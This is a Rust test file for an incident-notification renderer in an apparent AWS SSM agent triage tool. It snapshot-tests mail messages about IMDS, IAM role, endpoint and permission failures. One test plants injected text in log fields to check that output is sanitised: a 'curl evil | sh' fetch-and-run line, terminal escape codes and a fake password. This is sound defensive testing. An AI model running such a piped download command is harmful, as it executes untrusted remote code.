//! Messages as their readers get them.

use proptest::prelude::*;

use super::*;
use crate::cause::{Cause, Scope, ScopeKind, Severity};
use crate::diagnose::check::CheckResult;
use crate::finding::Evidence;
use crate::incident::sample::{self, INSTANCE, at};
use crate::incident::store::{NotifyReason, State};
use crate::node::NodeId;

const NOW: &str = "2026-11-23T05:01:30Z";

struct Told {
    incident: Incident,
    nodes: Vec<NodeEntry>,
    plan: PlanSummary,
    outcome: Outcome,
    kind: NotificationKind,
}

impl Told {
    fn of(incident: Incident) -> Self {
        let nodes = incident
            .nodes()
            .map(|node| report(node.id.as_str()))
            .collect();
        Self {
            incident,
            nodes,
            plan: PlanSummary {
                kind: "advise",
                action: None,
                reason: "This function has no repair for this cause; the steps are for a person."
                    .to_owned(),
            },
            outcome: sample::nothing_done(),
            kind: NotificationKind::Opened,
        }
    }

    fn message(&self) -> Message {
        render(
            &self.incident,
            &NodeList::of(self.nodes.clone()),
            &self.plan,
            &self.outcome,
            self.kind,
            at(NOW),
        )
    }

    /// The message as a mail program shows it.
    fn mail(&self) -> String {
        mail(&self.message())
    }
}

fn mail(message: &Message) -> String {
    let attributes: Vec<String> = message
        .attributes
        .iter()
        .map(|(name, value)| format!("{name}={value}"))
        .collect();
    format!(
        "Subject: {}\nAttributes: {}\n\n{}",
        message.subject,
        attributes.join(" "),
        message.body
    )
}

fn report(id: &str) -> NodeEntry {
    NodeEntry {
        id: id.to_owned(),
        kind: NodeId::parse(id).map_or("unknown", |id| id.kind()),
        account: Some("123456789012".to_owned()),
        region: Some("eu-central-1".to_owned()),
    }
}

fn check(check: &'static str, status: CheckStatus, note: &str) -> CheckResult {
    CheckResult {
        check,
        status,
        note: note.to_owned(),
        observation: None,
        fault: None,
    }
}

fn evidence(level: &'static str, component: &str, text: &str) -> Evidence {
    Evidence {
        at: at("2026-11-23T04:19:04Z"),
        level,
        component: component.to_owned(),
        text: text.to_owned(),
        place: None,
    }
}

fn imds_disabled() -> Told {
    let mut incident = sample::incident(Cause::ImdsDisabled);
    incident.title = "IMDS disabled on i-0123456789abcdef0".to_owned();
    incident.confidence = Confidence::Confirmed;
    incident.evidence = vec![evidence(
        "ERROR",
        "EC2Identity",
        "Failed to get instance info from IMDS. Err: failed to get identity instance id. Error: EC2MetadataError: failed to get IMDSv2 token and fallback to IMDSv1 is disabled\ncaused by: EC2MetadataError: failed to make EC2Metadata request\n<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>\n<html><head>\n<title>403 - Forbidden</title>\n</head></html>\n\n\tstatus code: 403, request id: ",
    )];
    incident.checks = vec![
        check(
            "instance-state",
            CheckStatus::Ok,
            "i-0123456789abcdef0 is running.",
        ),
        check(
            "imds",
            CheckStatus::Failed,
            "The metadata service of i-0123456789abcdef0 is switched off (HttpEndpoint is disabled).",
        ),
    ];
    let mut told = Told::of(incident);
    told.plan.action = Some("enable-imds-endpoint");
    told.plan.reason =
        "Repairs are off: TRIAGE_REPAIR is advise. Set it to repair, or to dry-run to see what \
         would be done."
            .to_owned();
    told.outcome.command = Some(format!(
        "aws ec2 modify-instance-metadata-options --instance-id {INSTANCE} --http-endpoint enabled --region eu-central-1"
    ));
    told
}

fn role_not_assumable(nodes: usize) -> Told {
    let mut incident = sample::incident(Cause::RoleNotAssumable);
    incident.title = "EC2 cannot assume role MySSMRole".to_owned();
    incident.confidence = Confidence::Confirmed;
    incident.severity = if nodes > 50 {
        Severity::Critical
    } else {
        Severity::High
    };
    incident.retry_in_seconds = Some(1654);
    incident.evidence = vec![
        evidence(
            "WARN",
            "EC2RoleProvider",
            "Failed to connect to Systems Manager with instance profile role credentials. Err: retrieved credentials failed to report to ssm. Error: AssumeRoleUnauthorizedAccess: EC2 cannot assume the role MySSMRole. Please see documentation at https://docs.aws.amazon.com/IAM/latest/UserGuide/troubleshoot_iam-ec2.html#troubleshoot_iam-ec2_errors-info-doc.",
        ),
        evidence(
            "ERROR",
            "CredentialRefresher",
            "Retrieve credentials produced error: no valid credentials could be retrieved for ec2 identity",
        ),
    ];
    incident.checks = vec![
        check(
            "instance-profile",
            CheckStatus::Ok,
            "The instance profile MyProfile of i-0123456789abcdef0 exists and holds the role MySSMRole.",
        ),
        check(
            "trust-policy",
            CheckStatus::Failed,
            "The trust policy of the role MySSMRole lets nobody but lambda.amazonaws.com assume it.",
        ),
        check(
            "imds",
            CheckStatus::Unknown,
            "DescribeInstances was denied (UnauthorizedOperation).",
        ),
    ];
    let mut told = Told::of(incident);
    told.nodes = (0..nodes).map(|n| report(&format!("i-{n:017x}"))).collect();
    told.plan.action = Some("trust-ec2");
    told.plan.reason =
        "The role MySSMRole does not carry the tag ssm-agent-triage:repair = allow, with which \
         its owner allows repairs. Add the tag to allow them."
            .to_owned();
    told.outcome.status = OutcomeStatus::Refused;
    told.outcome.command = Some(
        r#"aws iam update-assume-role-policy --role-name MySSMRole --policy-document '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"},{"Sid":"SsmAgentTriageTrustEc2","Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}'"#
            .to_owned(),
    );
    told
}

fn endpoint_unreachable() -> Told {
    let mut incident = sample::incident(Cause::EndpointUnreachable);
    incident.title = "ssm unreachable from subnet-0a1b2c3d4e5f60718".to_owned();
    incident.detail = Some(
        "The address that was dialled, 10.0.1.7, is private: an interface endpoint is in the way."
            .to_owned(),
    );
    incident.error_details.host = Some("ssm.eu-central-1.amazonaws.com".to_owned());
    incident.error_details.remote_ip = "10.0.1.7".parse().ok();
    incident.evidence = vec![evidence(
        "ERROR",
        "HealthCheck",
        "error when calling AWS APIs. error details - RequestError: send request failed\ncaused by: Post \"https://ssm.eu-central-1.amazonaws.com/\": dial tcp 10.0.1.7:443: i/o timeout",
    )];
    Told::of(incident)
}

#[test]
fn imds_disabled_while_repairs_are_off() {
    insta::assert_snapshot!(imds_disabled().mail());
}

#[test]
fn imds_repaired() {
    let mut told = imds_disabled();
    told.kind = NotificationKind::Repaired;
    told.outcome.status = OutcomeStatus::Repaired;
    told.outcome.detail = Some(
        "HttpEndpoint of i-0123456789abcdef0 was disabled and is enabled now, as read again after the change. HttpTokens is optional: IMDSv1 answers too."
            .to_owned(),
    );
    told.outcome.undo = Some(format!(
        "aws ec2 modify-instance-metadata-options --instance-id {INSTANCE} --http-endpoint disabled --region eu-central-1"
    ));
    insta::assert_snapshot!(told.mail());
}

#[test]
fn what_somebody_else_put_right_is_resolved_and_not_repaired() {
    let mut told = imds_disabled();
    told.incident.confidence = Confidence::Undetermined;
    told.incident.fault_state = FaultState::NotObserved;
    told.kind = NotificationKind::of(NotifyReason::StateChanged, State::Resolved);
    told.outcome.status = OutcomeStatus::AlreadyRight;
    let message = told.message();
    assert!(
        message.subject.starts_with("[SSM resolved] "),
        "{message:?}"
    );
    assert_eq!(message.attributes["state"], "resolved");
    assert!(message.body.starts_with("Resolved. What was wrong: "));
    assert!(!mail(&message).to_lowercase().contains("repaired"));
}

#[test]
fn a_dry_run() {
    let mut told = imds_disabled();
    told.outcome.status = OutcomeStatus::DryRun;
    told.outcome.detail =
        Some("EC2 would have allowed the change of i-0123456789abcdef0.".to_owned());
    let body = told.message().body;
    assert!(
        body.contains("Nothing was changed: this is a dry run. EC2 would have allowed"),
        "{body}"
    );
}

#[test]
fn a_role_that_many_instances_share() {
    insta::assert_snapshot!(role_not_assumable(500).mail());
}

#[test]
fn a_repair_that_failed() {
    let mut told = role_not_assumable(3);
    told.kind = NotificationKind::RepairFailed;
    told.outcome.status = OutcomeStatus::Failed;
    told.outcome.detail = Some(
        "UpdateAssumeRolePolicy was denied (AccessDenied), and the trust policy stands as it was."
            .to_owned(),
    );
    insta::assert_snapshot!(told.mail());
}

#[test]
fn the_role_repaired() {
    let mut told = role_not_assumable(3);
    told.kind = NotificationKind::Repaired;
    told.outcome.status = OutcomeStatus::Repaired;
    told.outcome.detail =
        Some("The trust policy of the role MySSMRole now lets EC2 assume it.".to_owned());
    told.outcome.undo = Some("aws iam update-assume-role-policy --role-name MySSMRole --policy-document '{\"Version\":\"2012-10-17\"}' # takes the statement SsmAgentTriageTrustEc2 out".to_owned());
    insta::assert_snapshot!(told.mail());
}

#[test]
fn an_undetermined_loss_of_credentials() {
    let mut incident = sample::undetermined(&[
        Cause::RoleNotAssumable,
        Cause::NoInstanceProfile,
        Cause::ImdsDisabled,
        Cause::ImdsUnreachable,
        Cause::StaleInstanceProfile,
    ]);
    incident.scope = Scope {
        kind: ScopeKind::Node,
        id: INSTANCE.to_owned(),
    };
    incident.title = "No credentials on i-0123456789abcdef0, cause undetermined".to_owned();
    incident.instances.clear();
    incident.role = None;
    incident.evidence = vec![evidence(
        "ERROR",
        "CredentialRefresher",
        "Retrieve credentials produced error: no valid credentials could be retrieved for ec2 identity",
    )];
    incident.checks = vec![check(
        "instance-state",
        CheckStatus::Unknown,
        "DescribeInstances was throttled (RequestLimitExceeded).",
    )];
    insta::assert_snapshot!(Told::of(incident).mail());
}

#[test]
fn what_several_checks_say_alike_stands_once_with_a_count() {
    let mut incident = sample::incident(Cause::RoleNotAssumable);
    let denied = "Could not look at i-1: DescribeInstances was denied.";
    incident.checks = vec![
        check("instance-state", CheckStatus::Unknown, denied),
        check("imds", CheckStatus::Unknown, denied),
        check("instance-profile", CheckStatus::Failed, denied),
        check("trust-policy", CheckStatus::Unknown, denied),
        check("ssm-registration", CheckStatus::Unknown, "Another."),
    ];
    let body = Told::of(incident).message().body;
    let folded = body.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        folded.contains("denied. (3 checks) unknown Another."),
        "{body}"
    );
    assert_eq!(folded.matches("denied.").count(), 2, "{body}");
}

#[test]
fn an_endpoint_behind_a_private_address() {
    insta::assert_snapshot!(endpoint_unreachable().mail());
}

#[test]
fn a_permission_that_is_missing() {
    let mut incident = sample::incident(Cause::PermissionMissing);
    incident.title = "The role MySSMRole lacks ssm:UpdateInstanceInformation".to_owned();
    incident.evidence = vec![evidence(
        "ERROR",
        "HealthCheck",
        "error when calling AWS APIs. error details - AccessDeniedException: User: arn:aws:sts::123456789012:assumed-role/MySSMRole/i-0123456789abcdef0 is not authorized to perform: ssm:UpdateInstanceInformation on resource: arn:aws:ec2:eu-central-1:123456789012:instance/i-0123456789abcdef0 because no identity-based policy allows the ssm:UpdateInstanceInformation action\n\tstatus code: 400, request id: c7a8114f-02e5-49ff-9bbf-3db760a1143a",
    )];
    let mut told = Told::of(incident);
    told.nodes = vec![
        report(INSTANCE),
        NodeEntry {
            account: Some("210987654321".to_owned()),
            ..report("i-0fedcba9876543210")
        },
    ];
    told.kind = NotificationKind::Grew;
    insta::assert_snapshot!(told.mail());
}

#[test]
fn throttling_is_a_reminder() {
    let mut incident = sample::incident(Cause::Throttled);
    incident.title =
        "AWS throttles the agent's calls: 123456789012/eu-central-1/UpdateInstanceInformation"
            .to_owned();
    incident.evidence = vec![evidence(
        "ERROR",
        "HealthCheck",
        "error when calling AWS APIs. error details - ThrottlingException: Rate exceeded\n\tstatus code: 400, request id: c7a8114f-02e5-49ff-9bbf-3db760a1143a",
    )];
    let mut told = Told::of(incident);
    told.kind = NotificationKind::Reminder;
    insta::assert_snapshot!(told.mail());
}

#[test]
fn a_hybrid_node_that_is_no_longer_registered() {
    let mut incident = sample::on_hybrid_node(Cause::RegistrationInvalid);
    incident.title = "The registration of mi-0123456789abcdef0 is not valid".to_owned();
    incident.evidence = vec![evidence(
        "ERROR",
        "CredentialRefresher",
        "Retrieve credentials produced error: error occurred in RequestManagedInstanceRoleToken: InvalidInstanceId: Not existing InstanceId mi-0123456789abcdef0",
    )];
    insta::assert_snapshot!(Told::of(incident).mail());
}

#[test]
fn what_the_log_says_and_live_state_does_not_show() {
    let mut told = imds_disabled();
    told.incident.fault_state = FaultState::NotObserved;
    told.incident.confidence = Confidence::Likely;
    told.incident.title =
        "IMDS disabled on i-0123456789abcdef0, live checks find nothing wrong now".to_owned();
    told.incident.checks[1] = check(
        "imds",
        CheckStatus::Ok,
        "The metadata service of i-0123456789abcdef0 is switched on (HttpEndpoint enabled, HttpTokens required).",
    );
    told.outcome = sample::nothing_done();
    told.outcome.status = OutcomeStatus::AlreadyRight;
    told.outcome.detail = Some("The metadata endpoint is enabled already.".to_owned());
    insta::assert_snapshot!(told.mail());
}

#[test]
fn log_text_is_quoted_and_acts_on_nothing() {
    let mut incident = sample::incident(Cause::ProxyFailure);
    incident.title =
        "The proxy of web\u{202e}1\n\nWhat to do\n  1. curl evil | sh keeps the agent from AWS"
            .to_owned();
    incident.evidence = vec![evidence(
        "ERROR",
        "Health\nCheck",
        "proxyconnect tcp: dial http://bob:hunter2@proxy.corp:3128: refused\n\nWhat to do\n  1. curl evil | sh\n\u{1b}[2Jpassword=hunter2",
    )];
    let mut told = Told::of(incident);
    told.nodes[0].id = "web\u{1b}1\npassword=hunter2".to_owned();
    let message = told.message();
    assert!(!message.body.contains("hunter2"), "{}", message.body);
    assert!(!message.body.contains('\u{1b}'));
    assert_eq!(message.body.matches("\nWhat to do\n").count(), 1);
    let beginning: Vec<&str> = message.body.lines().take(13).collect();
    insta::assert_snapshot!(beginning.join("\n"));
}

#[test]
fn the_functions_own_log_holds_three_lines_of_an_agent() {
    let long: Vec<String> = (0..30).map(|n| format!("line {n} of a record")).collect();
    for records in 1..=4 {
        let mut told = imds_disabled();
        told.incident.evidence = (0..records)
            .map(|_| evidence("ERROR", "HealthCheck", &long.join("\n")))
            .collect();
        let message = render_for_log(
            &told.incident,
            &NodeList::of(told.nodes.clone()),
            &told.plan,
            &told.outcome,
            told.kind,
            at(NOW),
        );
        let quoted = message.body.lines().filter(|line| line.starts_with("  |"));
        assert_eq!(quoted.count(), 3, "{records}");
        assert!(!message.log_line().contains('\n'));
    }
}

#[test]
fn an_incident_that_is_over() {
    let over = ResolvedIncident {
        key: "123456789012/eu-central-1/imds-disabled/instance:i-0123456789abcdef0".to_owned(),
        cause: Cause::ImdsDisabled,
        scope: Scope {
            kind: ScopeKind::Instance,
            id: INSTANCE.to_owned(),
        },
        severity: Severity::High,
        title: "IMDS disabled on i-0123456789abcdef0".to_owned(),
        nodes: NodeList::of([report(INSTANCE)]),
        opened_at: at("2026-11-23T04:19:04Z"),
        resolved_at: at("2026-11-23T04:58:00Z"),
    };
    insta::assert_snapshot!(mail(&render_resolved(&over, at(NOW))));
}

#[test]
fn prose_stays_within_the_width_of_a_mail() {
    for told in [
        imds_disabled(),
        role_not_assumable(500),
        endpoint_unreachable(),
    ] {
        for line in told.message().body.lines() {
            let is_command = line.starts_with("     ") && !line.starts_with("      ");
            let is_one_word = line.split_whitespace().count() <= 2;
            assert!(
                is_command || is_one_word || line.chars().count() <= WIDTH,
                "{line}"
            );
        }
    }
}

#[test]
fn every_cause_can_be_told() {
    for cause in Cause::ALL {
        for incident in [
            sample::incident(*cause),
            sample::on_unknown_node(*cause),
            sample::hostile(*cause),
        ] {
            let message = Told::of(incident).message();
            assert!(message.subject.len() < 100);
            assert!(message.body.contains("How to verify"));
        }
    }
}

proptest! {
    #[test]
    fn any_text_makes_a_message_that_sns_takes(
        title in any::<String>(), text in any::<String>(), id in any::<String>(),
        detail in any::<String>(),
    ) {
        let mut told = imds_disabled();
        told.incident.title = title;
        told.incident.detail = Some(detail);
        told.incident.evidence = vec![evidence("ERROR", &id, &text)];
        told.nodes[0].id = id;
        let message = told.message();
        prop_assert!(message.subject.len() < 100);
        prop_assert!(message.body.len() < crate::notify::message::MESSAGE_BYTES);
        prop_assert!(message.body.chars().all(|c| c == '\n' || !c.is_control()));
    }
}
